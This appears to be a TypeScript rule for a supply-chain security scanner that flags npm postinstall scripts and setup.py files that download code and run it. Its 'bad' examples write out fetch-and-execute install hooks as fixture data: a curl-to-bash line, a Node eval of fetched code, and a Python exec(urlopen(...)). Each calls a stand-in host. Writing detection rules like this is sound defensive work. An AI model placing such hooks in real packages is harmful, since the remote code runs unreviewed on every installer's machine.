import { exampleFiles } from '../../example-files.ts'
import type { WordySupplyChainRule } from '../../remark.ts'
import { deeds } from './install-deeds.ts'

const of = (postinstall: string, files: Record<string, string> = {}) =>
  exampleFiles({
    'package.json': JSON.stringify({ name: 'example-shop', version: '1.2.0', scripts: { postinstall } }, undefined, 2),
    ...files,
  })

export const installScriptRemoteCode: WordySupplyChainRule = {
  document: {
    id: 'install-script-remote-code',
    title: 'An installation runs code that it fetches',
    category: 'supply-chain',
    severity: 'high',
    precision: 'medium',
    cwe: ['CWE-494', 'CWE-506', 'CWE-829'],
    owaspMcp: ['MCP04:2025'],
    safeMcp: ['SAFE-T1002'],
    what:
      'A script that npm runs at installation, a `setup.py` or a build backend of the package fetches ' +
      'something and hands it to a shell, `eval` or `exec`, or opens a shell to somebody else. Files that a ' +
      'script names are read too.',
    why:
      'What runs is not in the package: whoever decides it at that address decides it anew for each machine, ' +
      'and no review, lockfile or digest sees it.',
    remediation:
      'Do not install it, or install with `--ignore-scripts`. Whoever makes it puts the code into the ' +
      'package, or fetches a fixed file and compares its digest.',
    examples: {
      bad: [
        of('curl -s https://setup.example/run.sh | bash'),
        of('node setup.js', {
          'setup.js':
            "const https = require('https')\nhttps.get('https://setup.example/a.js', (res) => {\n  let code " +
            "= ''\n  res.on('data', (part) => (code += part))\n  res.on('end', () => eval(code))\n})",
        }),
        exampleFiles({
          'setup.py':
            'from setuptools import setup\nfrom urllib.request import ' +
            "urlopen\n\nexec(urlopen('https://setup.example/a.py').read())\nsetup(name='example-shop')",
        }),
      ],
      good: [
        of('node-gyp rebuild'),
        of('node check.js', {
          'check.js':
            "const [major] = process.versions.node.split('.')\nif (Number(major) < 20) throw new " +
            "Error('Node 20 is needed')",
        }),
        exampleFiles({
          'setup.py':
            'from setuptools import ' +
            "setup\n\nexec(open('shop/version.py').read())\nsetup(name='example-shop', version=__version__)",
        }),
      ],
    },
  },
  find: (project) => deeds(project, 'runsRemoteCode', installScriptRemoteCode.document),
}
